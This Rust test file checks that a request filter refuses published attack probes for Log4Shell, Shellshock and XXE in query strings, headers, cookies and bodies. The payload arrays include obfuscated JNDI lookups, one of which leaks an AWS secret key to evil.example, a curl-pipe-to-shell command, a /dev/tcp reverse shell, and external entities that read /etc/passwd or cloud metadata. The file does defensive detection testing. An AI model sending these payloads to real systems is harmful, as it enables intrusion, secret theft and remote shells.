//! Probes as they were published for three holes, of which all but a few must be refused in whatever shape.

use tenancy_security::threat::Place;

use super::refused;

/// CVE-2021-44228 and its followers.
const LOG4SHELL: [&str; 26] = [
    "${jndi:ldap://evil.example/a}",
    "${jndi:ldaps://evil.example:636/a}",
    "${jndi:rmi://evil.example:1099/obj}",
    "${jndi:dns://evil.example/x}",
    "${jndi:iiop://evil.example/a}",
    "${jndi:nis://evil.example/a}",
    "${jndi:corba://evil.example/a}",
    "${JNDI:LDAP://evil.example/a}",
    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${lower:jndi}:${lower:rmi}://evil.example/poc}",
    "${${upper:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/poc}",
    "${${::-j}ndi:rmi://evil.example/ass}",
    "${jndi:rmi://${::-e}vil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${${env:ENV_NAME:-j}n${env:ENV_NAME:-d}i:ldap://evil.example/a}",
    "${${sys:x:-j}ndi:ldap://evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${${lower:${lower:jndi}}:ldap://evil.example/a}",
    "${${what:ever:-j}${some:thing:-n}${other:thing:-d}i:ldap://evil.example/z}",
    "${${-:-j}${-:-n}${-:-d}${-:-i}:ldap://evil.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://${hostName}.evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
    "%24%7Bjndi:ldap://evil.example/a%7D",
];

/// CVE-2014-6271 and its followers.
const SHELLSHOCK: [&str; 23] = [
    "() { :; }; echo vulnerable",
    "() { :;}; /bin/bash -c 'id'",
    "() { :;};/usr/bin/id",
    "() { :; }; ping -c 3 evil.example",
    "() { ignored; }; /bin/cat /etc/passwd",
    "() { foo;};echo; /bin/cat /etc/passwd",
    "() { test;};echo \"Content-type: text/plain\"; echo; /bin/uname -a",
    "() { :;}; wget http://evil.example/x -O /tmp/x",
    "() { :;}; curl http://evil.example/x | sh",
    "() { :; }; /bin/bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "() { :; }; exec 5<>/dev/tcp/192.0.2.1/80",
    "() { _; } >_[$($())] { echo vulnerable; }",
    "() { _; } >_[$($())] { id; }",
    "() { (a)=>\\",
    "() { x() { _; }; x() { _; } <<a; }",
    "(){ :;}; echo vulnerable",
    "() {:;}; echo vulnerable",
    "() { :;}; /bin/sleep 20",
    "() { :;}; perl -e 'print 1'",
    "() { gry;}; /bin/ls",
    "()\t{ :;}; echo vulnerable",
    "() { goo;}; /bin/bash -c \"echo vulnerable\"",
    "() { true;}; echo -e \"\\r\\nContent-Type: text/plain\\r\\n\\r\\n$(whoami)\"",
];

/// External entities: files, addresses, expansion, and what hides them.
const XXE: [&str; 24] = [
    r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "ftp://evil.example/x">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "gopher://evil.example/x">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://evil.example/x!/y">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x SYSTEM "netdoc:/etc/passwd">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY x PUBLIC "any" "file:///etc/passwd">]><r>&x;</r>"#,
    r#"<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><r/>"#,
    r#"<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/hosts"><!ENTITY % d SYSTEM "http://evil.example/d.dtd">%d;]><r/>"#,
    r#"<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>"#,
    r#"<!DOCTYPE r PUBLIC "-//A//B" "http://evil.example/x.dtd"><r/>"#,
    r#"<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "file:///dev/random">]><r>&x;</r>"#,
    r#"<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><r>&c;</r>"#,
    r#"<!doctype r [<!entity x system "file:///etc/passwd">]><r>&x;</r>"#,
    "<!DOCTYPE r [\n<!ENTITY\tx\nSYSTEM\n'file:///etc/passwd'>\n]>\n<r>&x;</r>",
    r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><text>&x;</text></svg>"#,
    r#"<soap:Body><![CDATA[<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><d/>]]></soap:Body>"#,
    r#"<!DOCTYPE r [<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso 'x'>%local;]><r/>"#,
    r#"<!DOCTYPE r [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM 'file:///etc/passwd'>">%a;%b;]><r/>"#,
    r#"%3C!DOCTYPE%20r%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E%3Cr%3E%26x;%3C/r%3E"#,
];

#[test]
fn published_probes_are_refused_in_the_places_they_are_sent_to() {
    let check = |what: &str, probes: &[&str], places: &[Place]| {
        for &place in places {
            let passed = probes
                .iter()
                .filter(|probe| refused(place, probe).is_none());
            let passed: Vec<_> = passed.collect();
            assert!(
                passed.len() * 100 <= probes.len() * 5,
                "{what} in {place}: {passed:#?}"
            );
        }
    };
    let anywhere = [Place::Query, Place::Header, Place::Json, Place::Form];
    check("Log4Shell", &LOG4SHELL, &anywhere);
    check(
        "Shellshock",
        &SHELLSHOCK,
        &[Place::Header, Place::Cookie, Place::Query],
    );
    check("XXE", &XXE, &[Place::Body, Place::Form, Place::Multipart]);
}
